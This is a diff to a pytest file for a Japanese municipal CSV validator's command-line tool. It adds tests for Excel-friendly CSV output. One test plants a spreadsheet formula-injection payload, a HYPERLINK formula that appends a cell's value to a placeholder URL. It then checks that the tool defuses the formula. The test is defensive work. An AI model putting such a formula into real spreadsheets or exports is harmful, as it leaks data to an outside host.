@@ -8,6 +8,7 @@ one cell, column or file, so each test shows exactly which edit a check catches 
 from __future__ import annotations
 
 import csv
+import io
 import shutil
 import subprocess
 import sys
@@ -603,12 +604,35 @@ def test_cli_checks_several_folders(city: Path, capsys: pytest.CaptureFixture[st
 
 
 def test_cli_csv_output(city: Path, capsys: pytest.CaptureFixture[str]) -> None:
+    """One CSV for Excel: a BOM, formulas defused, the summary on stderr (not a row of it)."""
     set_cell(city / "statuses.csv", 6, "取組状況", "完了")
-    status, lines = validate(["--format", "csv", str(city)], capsys)
+    formula = '=HYPERLINK("http://example.invalid/?"&A1,"x")'
+    set_cell(city / "items.csv", 3, "取組目標", formula)
+    status = cli.main(["validate", "--format", "csv", str(city)])
+    captured = capsys.readouterr()
     assert status == 1
-    rows = list(csv.reader(lines))
+    assert captured.out.startswith("\ufeff") and captured.out.count("\ufeff") == 1
+    rows = list(csv.reader(io.StringIO(captured.out.removeprefix("\ufeff"))))
     assert rows[0] == ["file", "row", "column", "value", "message", "code", "severity"]
-    assert rows[1][:4] == ["statuses.csv", "6", "取組状況", "完了"]
+    assert ["items.csv", "3", "取組目標", "'" + formula] == rows[1][:4]
+    assert rows[2][:4] == ["statuses.csv", "6", "取組状況", "完了"]
+    assert len(rows) == 3 and all(len(row) == 7 for row in rows)
+    cells = [cell for row in rows for cell in row]
+    assert not any(cell[:1] in "=+-@" for cell in cells if cell)
+    assert "エラー 2 件" not in captured.out and "エラー 2 件" in captured.err
+    assert "2 errors" in captured.err
+
+
+def test_cli_csv_output_of_several_folders_is_one_csv(
+    city: Path, capsys: pytest.CaptureFixture[str]
+) -> None:
+    set_cell(city / "statuses.csv", 6, "取組状況", "完了")
+    status = cli.main(["validate", "--format", "csv", str(BUNDLED), str(city)])
+    captured = capsys.readouterr()
+    assert status == 1
+    rows = list(csv.reader(io.StringIO(captured.out.removeprefix("\ufeff"))))
+    assert [row[0] for row in rows] == ["file", f"{city.as_posix()}/statuses.csv"]
+    assert "OK" in captured.err and "1 errors" in captured.err
 
 
 def test_cli_as_a_command(city: Path) -> None:
@@ -787,7 +811,7 @@ def test_a_long_problem_table_is_summarised(city: Path, capsys: pytest.CaptureFi
     assert "ほか 100 件" in lines[-2] and "unknown_target 100" in lines[-2]
     assert "300 errors" in lines[-1]
     status, lines = validate(["--format", "csv", str(city)], capsys)
-    assert len(lines) == 1 + 300 + 1  # machine-readable: all of them, then the summary
+    assert len(lines) == 1 + 300  # machine-readable: all of them (the summary is on stderr)
 
 
 def test_data_validation_error_text_is_escaped(city: Path) -> None:
